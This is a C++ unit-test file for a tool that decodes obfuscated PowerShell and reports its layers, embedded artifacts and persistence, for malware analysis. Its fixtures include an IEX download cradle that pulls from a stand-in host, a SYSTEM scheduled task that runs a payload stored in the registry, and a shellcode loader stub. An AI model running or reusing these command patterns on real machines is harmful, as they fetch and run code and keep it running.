#include <catch2/catch.hpp>

#include <string>

#include <nlohmann/json.hpp>

#include "ioc/codec/base64.hpp"
#include "ioc/codec/inflate.hpp"
#include "ioc/codec/utf16.hpp"
#include "ioc/decode/peeler.hpp"
#include "ioc/decode/report.hpp"

using namespace ioc;
using namespace ioc::decode;

namespace {

std::string enc(std::string_view script) {
  return codec::encode_base64(codec::encode_utf16(script, codec::Endian::kLittle));
}

std::string b64(std::string_view bytes) {
  return codec::encode_base64(bytes);
}

std::string gzip_b64(std::string_view bytes) {
  auto gz = codec::deflate(bytes, codec::Container::kGzip);
  REQUIRE(gz);
  return codec::encode_base64(*gz);
}

std::string deflate_b64(std::string_view bytes) {
  auto d = codec::deflate(bytes, codec::Container::kRaw);
  REQUIRE(d);
  return codec::encode_base64(*d);
}

// A minimal PE: "MZ", e_lfanew at 0x3C pointing at "PE\0\0".
std::string tiny_pe() {
  std::string pe(0x80, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  return pe;
}

}  // namespace

TEST_CASE("peel: -EncodedCommand in a command line", "[decode][peeler]") {
  const std::string blob = enc("whoami /user");
  const std::string line = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc  " + blob;
  Peeled p = peel(line);
  CHECK(p.input_kind == "cmdline");
  REQUIRE(p.powershell_args);
  CHECK(p.powershell_args->noprofile);
  CHECK(p.powershell_args->execution_policy == "Bypass");
  REQUIRE(p.layers.size() == 1);
  const Layer& l = p.layers[0];
  CHECK(l.op == "encoded_command");
  CHECK(l.encoding == "utf-16le");
  CHECK(l.ok);
  CHECK(l.recipe == "from_base64 | decode_text utf-16le");
  // The span locates the blob in the input.
  CHECK(line.substr(l.begin, l.end - l.begin) == blob);
  CHECK(p.decoded == "whoami /user");
  CHECK(p.decoded_any());
  CHECK_FALSE(p.failed());
}

TEST_CASE("peel: wrappers and missing padding", "[decode][peeler]") {
  std::string blob = enc("Get-Process");
  while (!blob.empty() && blob.back() == '=') blob.pop_back();
  Peeled p = peel(
      "%COMSPEC% /C \"%COMSPEC% /C start /b "
      "C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -sta -w 1 -enc  " +
      blob + "\"");
  CHECK(p.wrappers == std::vector<std::string>{"cmd", "cmd", "start"});
  CHECK(p.decoded == "Get-Process");
}

TEST_CASE("peel: a bare base64 blob (registry value)", "[decode][peeler]") {
  Peeled u16 = peel(enc("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"));
  CHECK(u16.input_kind == "base64");
  REQUIRE(u16.layers.size() >= 1);
  CHECK(u16.layers[0].op == "base64");
  CHECK(u16.layers[0].encoding == "utf-16le");
  CHECK(u16.decoded.rfind("IEX (New-Object", 0) == 0);

  Peeled u8 = peel(b64("Write-Host 'plain UTF-8 payload'"));
  CHECK(u8.input_kind == "base64");
  CHECK(u8.layers[0].encoding == "ascii");
  CHECK(u8.decoded == "Write-Host 'plain UTF-8 payload'");

  // A SHA-256 in hex is made of base64 characters but is no blob.
  Peeled hash = peel("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
  CHECK(hash.input_kind == "script");
  CHECK_FALSE(hash.decoded_any());
}

TEST_CASE("peel: FromBase64String executed or as a value", "[decode][peeler]") {
  const std::string inner = "Write-Output 'second stage'";
  Peeled run =
      peel("powershell -c \"IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
           enc(inner) + "')))\"");
  REQUIRE(run.layers.size() >= 2);
  CHECK(run.layers[0].op == "command");
  const Layer& l = run.layers.back();
  CHECK(l.op == "frombase64string");
  CHECK(l.encoding == "utf-16le");
  CHECK(l.executed);
  CHECK(run.decoded == inner);

  Peeled value = peel("$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
                      enc("https://192.168.56.40:8888") + "')));$t='/admin/get.php'");
  CHECK(value.input_kind == "script");
  REQUIRE(value.layers.size() == 1);
  CHECK_FALSE(value.layers[0].executed);
  CHECK(value.layers[0].text == "https://192.168.56.40:8888");
  CHECK(value.decoded.empty());  // nothing runs

  Peeled ascii =
      peel("IEX ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('" +
           b64("Get-Date") + "')))");
  REQUIRE_FALSE(ascii.layers.empty());
  CHECK(ascii.layers.back().encoding == "ascii");
  CHECK(ascii.decoded == "Get-Date");
}

TEST_CASE("peel: gzip runner and deflate assembly", "[decode][peeler]") {
  const std::string stage2 = "$x = 1; Write-Output $x";
  Peeled gz = peel(
      "powershell.exe -nop -w hidden -c &([scriptblock]::create((New-Object System.IO.StreamReader("
      "New-Object System.IO.Compression.GzipStream((New-Object "
      "System.IO.MemoryStream(,[System.Convert]"
      "::FromBase64String('" +
      gzip_b64(stage2) +
      "'))),[System.IO.Compression.CompressionMode]::"
      "Decompress))).ReadToEnd()))");
  REQUIRE_FALSE(gz.layers.empty());
  CHECK(gz.layers.back().op == "gzip");
  CHECK(gz.layers.back().recipe == "from_base64 | gunzip");
  CHECK(gz.decoded == stage2);

  Peeled pe = peel(
      "sv o (New-Object IO.MemoryStream);sv d (New-Object "
      "IO.Compression.DeflateStream([IO.MemoryStream]"
      "[Convert]::FromBase64String('" +
      deflate_b64(tiny_pe()) +
      "'),[IO.Compression.CompressionMode]::"
      "Decompress));[Reflection.Assembly]::Load((gv o).Value.ToArray())");
  REQUIRE(pe.artifacts.size() == 1);
  CHECK(pe.artifacts[0].kind == "pe");
  CHECK(pe.artifacts[0].size == 0x80);
  CHECK(pe.artifacts[0].prefix_hex == "4d5a0000000000000000000000000000");
  CHECK(pe.artifacts[0].sha256.size() == 64);
  CHECK(pe.layers.back().op == "deflate");
  CHECK(pe.layers.back().encoding == "binary");
}

TEST_CASE("peel: shellcode in a loader script", "[decode][peeler]") {
  const std::string sc("\xFC\xE8\x82\x00\x00\x00\x60\x89\xE5\x31\xC0\x64\x8B\x50\x30", 15);
  Peeled p = peel("[Byte[]]$b = [System.Convert]::FromBase64String(\"" + b64(sc) +
                  "\");$m=VirtualAlloc(0,$b.Length,0x3000,0x40)");
  REQUIRE(p.artifacts.size() == 1);
  CHECK(p.artifacts[0].kind == "shellcode");
}

TEST_CASE("peel: registry indirection", "[decode][peeler]") {
  Peeled p = peel(
      "schtasks.exe /Create /F /RU system /SC DAILY /ST 10:51 /TN Updater /TR \"powershell.exe "
      "-NonI "
      "-W hidden -c \\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp "
      "HKLM:\\Software\\Microsoft\\Network debug).debug)))\\\"\"");
  REQUIRE(p.persistence);
  CHECK(p.persistence->mechanism == "schtasks");
  CHECK(p.persistence->task_name == "Updater");
  CHECK(p.persistence->run_as == "system");
  REQUIRE(p.registry_payload);
  CHECK(p.registry_payload->key == "HKLM:\\Software\\Microsoft\\Network");
  CHECK(p.registry_payload->value == "debug");
  CHECK(p.registry_payload->encoding == "utf-16le");
  REQUIRE_FALSE(p.unresolved.empty());
  CHECK(p.unresolved.back().find("registry value 'debug'") != std::string::npos);
}

TEST_CASE("peel: escaped input is unescaped first", "[decode][peeler]") {
  const std::string blob = enc("whoami");
  Peeled xml = peel(
      "powershell -c &quot;IEX "
      "([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(&apos;" +
      blob + "&apos;)))&quot;");
  REQUIRE_FALSE(xml.layers.empty());
  CHECK(xml.layers[0].op == "unescape");
  CHECK(xml.decoded == "whoami");

  Peeled json = peel(
      "\"powershell -c \\\"IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
      blob + "')))\\\"\"");
  REQUIRE_FALSE(json.layers.empty());
  CHECK(json.layers[0].op == "unescape");
  CHECK(json.decoded == "whoami");
}

TEST_CASE("peel: failures are layers, not crashes", "[decode][peeler]") {
  Peeled bad = peel("powershell -enc !!!!");
  REQUIRE(bad.layers.size() == 1);
  CHECK_FALSE(bad.layers[0].ok);
  CHECK(bad.failed());

  // A gzip bomb inside a script: the layer fails on the caps.
  auto bomb = codec::deflate(std::string(64 << 20, '\0'), codec::Container::kGzip, 9);
  REQUIRE(bomb);
  PeelOptions small;
  small.limits.max_inflate_total = 8 << 20;
  Peeled boom = peel(
      "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object "
      "IO.MemoryStream(,[Convert]::FromBase64String('" +
          codec::encode_base64(*bomb) +
          "'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
      small);
  REQUIRE_FALSE(boom.layers.empty());
  CHECK_FALSE(boom.layers.back().ok);
  CHECK(boom.layers.back().error.find("exceeds") != std::string::npos);
}

TEST_CASE("peel: depth is bounded", "[decode][peeler]") {
  std::string script = "Write-Output 'core'";
  for (int i = 0; i < 20; ++i)
    script =
        "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64(script) + "')))";
  PeelOptions opt;
  opt.limits.max_depth = 5;
  Peeled p = peel(script, opt);
  CHECK(p.layers.size() <= 6);
  REQUIRE_FALSE(p.unresolved.empty());
  CHECK(p.unresolved.back().find("--max-depth") != std::string::npos);
  Peeled all = peel(script);  // the default depth (16) does not reach the core either
  CHECK_FALSE(all.unresolved.empty());
}

TEST_CASE("peel: custom decoders are unresolved", "[decode][peeler]") {
  Peeled p =
      peel("[Byte[]]$c = [System.Convert]::FromBase64String('" + b64("\x01\x02\x03\x04\x05\x06") +
           "'); for ($x = 0; $x -lt $c.Count; $x++) { $c[$x] = $c[$x] -bxor 35 }");
  bool found = false;
  for (const auto& u : p.unresolved) found = found || u.find("custom decoder") != std::string::npos;
  CHECK(found);
}

TEST_CASE("to_json: the contract keys are all present", "[decode][report]") {
  Peeled p = peel("powershell -enc " + enc("whoami"));
  auto j = to_json(p, "x.txt:1");
  for (const char* key : {"source", "input_kind", "wrappers", "powershell_args", "layers",
                          "decoded", "artifacts", "unresolved", "warnings", "framework", "empire",
                          "registry_payload", "persistence", "iocs"}) {
    INFO(key);
    CHECK(j.contains(key));
  }
  CHECK(j["layers"][0]["span"].size() == 2);
  CHECK(j["framework"]["name"] == "unknown");
  CHECK(j["empire"].is_null());
  CHECK(j["decoded"] == "whoami");
}

TEST_CASE("pretty_script: one statement per line", "[decode][report]") {
  CHECK(pretty_script("$a=1;if($a){$b='x;y';$c=2}else{$d=3};iex $b") ==
        "$a=1;\nif($a){\n    $b='x;y';\n    $c=2\n}else{$d=3};\niex $b\n");
  // Short blocks stay inline; pipelines and member access stay joined.
  CHECK(pretty_script("$x|?{$_}|%{$_.a;$_.b};$y") == "$x|?{$_}|%{\n    $_.a;\n    $_.b\n};\n$y\n");
}

TEST_CASE("to_jsonl_line: one valid JSON line per record, to_json its parsed form",
          "[decode][report]") {
  const std::vector<std::string> inputs = {
      "powershell -noP -sta -w 1 -enc " + enc("whoami"),
      "powershell -c \"IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
          enc("Write-Output 'x'") + "')))\"",
      "schtasks.exe /Create /F /RU system /SC DAILY /ST 10:51 /TN Updater /TR \"powershell.exe "
      "-NonI "
      "-W hidden -c \\\"IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp "
      "HKLM:\\Software\\Microsoft\\Network debug).debug)))\\\"\"",
      "sv d (New-Object "
      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" +
          deflate_b64(tiny_pe()) + "'),[IO.Compression.CompressionMode]::Decompress))",
      "powershell -enc !!!!",
      "('Amsi'+'Utils') ; \"quotes \\\" and \\\\ and \t tabs\" \x01",
      "plain text, nothing encoded",
  };
  for (const std::string& in : inputs) {
    INFO(in.substr(0, 80));
    const Peeled p = peel(in);
    for (bool explain : {false, true}) {
      const std::string line = to_jsonl_line(p, "src:1", explain);
      CHECK(line.find('\n') == std::string::npos);
      const auto parsed = nlohmann::ordered_json::parse(line);
      // Written the way nlohmann would write the same document (keys in order,
      // numbers and escapes alike), and read back unchanged.
      CHECK(parsed.dump() == line);
      CHECK(parsed == to_json(p, "src:1", explain));
      CHECK(parsed["layers"].size() == p.layers.size());
      for (std::size_t i = 0; i < p.layers.size(); ++i)
        CHECK(parsed["layers"][i].contains("cyberchef") == explain);
    }
  }
}

TEST_CASE("peel: a compression stream opened over a variable", "[decode][peeler]") {
  const std::string stage2 = "Write-Output 'via a variable'";
  Peeled p =
      peel("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + gzip_b64(stage2) +
           "\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
           "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();");
  REQUIRE_FALSE(p.layers.empty());
  CHECK(p.layers.back().op == "gzip");
  CHECK(p.layers.back().executed);
  CHECK(p.decoded == stage2);
  // Another variable's stream is not this one's.
  Peeled other =
      peel("$s=[Convert]::FromBase64String('" + gzip_b64(stage2) +
           "');$t=New-Object "
           "IO.Compression.GzipStream($sx,[IO.Compression.CompressionMode]::Decompress)");
  REQUIRE_FALSE(other.layers.empty());
  CHECK(other.layers.back().op == "frombase64string");
}
